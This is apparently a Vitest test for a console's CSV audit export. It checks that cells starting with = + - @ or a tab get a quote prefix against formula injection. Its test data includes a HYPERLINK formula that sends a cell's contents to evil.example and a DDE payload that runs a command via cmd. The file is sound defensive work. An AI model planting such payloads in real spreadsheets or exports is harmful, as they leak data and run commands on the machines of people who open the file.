// Issue 26, finding 12: the console's audit export neutralises spreadsheet formulas. An audit
// detail is text anyone could have typed (a group name, a username attempt), and Excel or WPS
// runs a cell starting with = + - @ as a formula.
import { describe, expect, it } from 'vitest';
import { csvText } from '../../console/src/csv-text.js';

describe('the console’s CSV', () => {
  it('prefixes a quote to every cell that would start a formula, and leaves other text alone', () => {
    const text = csvText([
      ['时间', '操作', '详情'],
      ['2026-12-01', '=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+cmd|" /C calc"!A0'],
      ['-2+3', '@SUM(1,2)', '\t=1'],
      ['普通文字', 'a,b', '020-12345678'],
    ]);
    const lines = text.replace(/^\ufeff/, '').split('\r\n');
    expect(lines[1]).toBe(`2026-12-01,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")","'+1+cmd|"" /C calc""!A0"`);
    expect(lines[2]).toBe(`'-2+3,"'@SUM(1,2)",'\t=1`);
    expect(lines[3]).toBe('普通文字,"a,b",020-12345678');
  });
});
